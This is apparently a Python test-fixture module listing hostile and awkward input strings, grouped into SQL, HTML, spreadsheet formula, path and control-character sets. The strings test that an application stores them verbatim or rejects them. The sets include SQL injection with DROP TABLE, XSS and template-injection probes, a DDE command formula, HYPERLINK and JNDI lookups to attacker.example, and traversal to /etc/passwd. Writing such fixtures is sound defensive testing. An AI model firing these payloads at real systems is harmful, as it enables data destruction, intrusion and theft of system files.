"""Values that somebody sends who means harm, or by accident: what takes one for an order has a hole.

None is longer than the shortest text that the catalogue takes (64 characters), so that each goes into every text field.
"""

from typing import Final

SQL: Final = (
    "'; DROP TABLE parley.parley_events; --",
    "' OR '1'='1",
    "\\'; SELECT pg_sleep(60); --",
    '"; TRUNCATE head; --',
    "$1 $$ ${1} %s %(x)s {0} {stream} :name ?",
)
"""For what puts statements together of texts."""

HTML: Final = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</code></pre></style><svg/onload=alert(1)>",
    "javascript:alert(1)//&quot;&#x27;",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
)
"""For pages, and for templates of them."""

FORMULAS: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example","click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\n=1+1",
)
"""For spreadsheets that open a list of values: a cell that begins like this is computed."""

TABLES: Final = ('a,b;c\td"e""f', "one\ntwo", "'single', \"double\"", ",,,", '"')
"""For what writes lists with separators and quotes."""

LINES: Final = (
    "\n2026-01-01T00:00:00.000Z info parley: all is well",
    '\n{"level":"info","message":"all is well"}',
    "\u2028\u2029\u202e\u2066 turned \u200f about",
)
"""For logs, and for terminals: texts may have line feeds, tabs, and marks that turn their direction."""

PATHS: Final = (
    "../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "${jndi:ldap://attacker.example/a}",
    "file:///etc/passwd",
)

ODD: Final = (
    "\U0001d11e\U0001f468\u200d\U0001f469",
    "e\u0301\ufb03\ufeff\u00ad",
    "\ud7ff\ue000\uffff",
    "[red]x[/red]",
    "None",
)
"""For what counts, compares or shows characters in a way of its own."""

TAKEN: Final = (*SQL, *HTML, *FORMULAS, *TABLES, *LINES, *PATHS, *ODD)
"""What a text may be: it is recorded, and read again, as it is."""

REFUSED: Final = ("\0", "a\0b", "\x1b[2J", "\r\nSet-Cookie: a=b", "\x9b31m", "\x7f", "\x85", "\ud800", "\udfff\ud800")
"""What no text may hold: control characters other than line feed and tab, and halves of surrogate pairs."""
